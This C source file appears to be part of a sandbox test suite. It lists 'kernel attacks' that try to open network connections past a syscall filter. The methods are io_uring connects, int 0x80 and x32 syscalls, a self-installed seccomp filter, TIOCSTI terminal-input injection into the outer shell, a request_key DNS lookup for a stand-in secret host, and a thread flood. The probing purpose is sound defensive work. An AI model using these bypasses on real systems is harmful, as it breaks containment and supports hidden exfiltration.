/* Other doors of the kernel. */
#include "attack.h"

#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <termios.h>

static enum outcome plain_connect(void)
{
	return told("connect", connect(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), (void *)&target4, sizeof target4));
}

/* Connects without a connect(2). */
static enum outcome ring(void)
{
	struct io_uring_params params = {0};
	int fd = (int)syscall(SYS_io_uring_setup, 4, &params);
	if (fd < 0)
		return told("io_uring_setup", fd);
	char *rings = mmap(NULL, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
		IORING_OFF_SQ_RING);
	struct io_uring_sqe *entries = mmap(NULL, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
		IORING_OFF_SQES);
	if (rings == MAP_FAILED || entries == MAP_FAILED)
		return told("mmap", -1);
	memset(entries, 0, sizeof *entries);
	entries[0].opcode = IORING_OP_CONNECT;
	entries[0].fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	entries[0].addr = (uint64_t)(uintptr_t)&target4;
	entries[0].off = sizeof target4;
	*(uint32_t *)(rings + params.sq_off.array) = 0;
	__atomic_store_n((uint32_t *)(rings + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	return told("io_uring_enter", syscall(SYS_io_uring_enter, fd, 1, 0, 0, NULL, 0));
}

#if defined __x86_64__

static long call32(long number, long one, long two, long three)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(one), "c"(two), "d"(three) : "memory", "r8", "r9", "r10", "r11");
	return result;
}

static long answered(long result)
{
	if (result < 0 && result > -4096) {
		errno = (int)-result;
		return -1;
	}
	return result;
}

/* Memory whose addresses fit an int. */
static void *low(void)
{
	return mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
}

static enum outcome int80(void)
{
	struct sockaddr_in *to = low();
	*to = target4;
	long fd = answered(call32(359, AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));
	told("socket", fd);
	if (fd < 0)
		fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	return told("connect", answered(call32(362, fd, (long)to, sizeof *to)));
}

static enum outcome int80_socketcall(void)
{
	int *words = low();
	struct sockaddr_in *to = (void *)(words + 16);
	*to = target4;
	words[0] = AF_INET;
	words[1] = SOCK_DGRAM;
	words[2] = 0;
	long fd = answered(call32(102, 1, (long)words, 0));
	told("socketcall socket", fd);
	if (fd < 0)
		fd = socket(AF_INET, SOCK_DGRAM, 0);
	words[0] = (int)fd;
	words[1] = (int)(long)to;
	words[2] = 6;
	words[3] = MSG_DONTWAIT;
	words[4] = (int)(long)to;
	words[5] = sizeof *to;
	return told("socketcall sendto", answered(call32(102, 11, (long)words, 0)));
}

static enum outcome x32(void)
{
	long fd = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	told("socket", fd);
	if (fd < 0)
		fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	return told("connect", syscall(0x40000000 | SYS_connect, fd, &target4, sizeof target4));
}

#endif

/* A filter of its own that lets everything pass. */
static enum outcome own_filter(void)
{
	struct sock_filter pass = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_fprog program = {1, &pass};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	told("seccomp", prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program));
	return plain_connect();
}

/* What a terminal is given to read, the shell outside runs. */
static enum outcome terminal_input(void)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY);
	if (master < 0 || grantpt(master) || unlockpt(master))
		return NOT_HERE;
	setsid();
	int own = open(ptsname(master), O_RDWR);
	if (own < 0)
		return NOT_HERE;
	ioctl(own, TIOCSCTTY, 0);
	return told("TIOCSTI", syscall(SYS_ioctl, own, 0xffffffff00000000ul | TIOCSTI, "x"));
}

static enum outcome terminal_selection(void)
{
	char subcode = 3;
	int master = posix_openpt(O_RDWR | O_NOCTTY);
	/* Only a console has a selection; another terminal's driver that says so was asked. */
	int result = ioctl(master, TIOCLINUX, &subcode);
	return told("TIOCLINUX", result < 0 && errno == EPERM ? -1 : 0);
}

/* The kernel asks the DNS by itself for a key of this type. */
static enum outcome key(void)
{
	return told("request_key", syscall(SYS_request_key, "dns_resolver", "secret.example.com", "", -2));
}

static void *call_out(void *unused)
{
	connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&target4, sizeof target4);
	return unused;
}

/* More questions at a time than anybody answers at once. */
static enum outcome flood(void)
{
	enum { MANY = 1000 };
	static pthread_t threads[MANY];
	int started = 0;
	pthread_attr_t small;
	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 64 * 1024);
	while (started < MANY && pthread_create(&threads[started], &small, call_out, NULL) == 0)
		started++;
	for (int i = 0; i < started; i++)
		pthread_join(threads[i], NULL);
	printf("%d threads\n", started);
	struct sockaddr_in allowed = welcome();
	told("connect to loopback", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&allowed, sizeof allowed));
	return plain_connect();
}

const struct attack kernel_attacks[] = {
	{"io-uring-connect", ring},
#if defined __x86_64__
	{"int80-connect", int80},
	{"int80-socketcall", int80_socketcall},
	{"x32-connect", x32},
#endif
	{"own-filter", own_filter},
	{"result-terminal-input", terminal_input},
	{"result-terminal-selection", terminal_selection},
	{"result-request-key", key},
	{"flood", flood},
	{0},
};
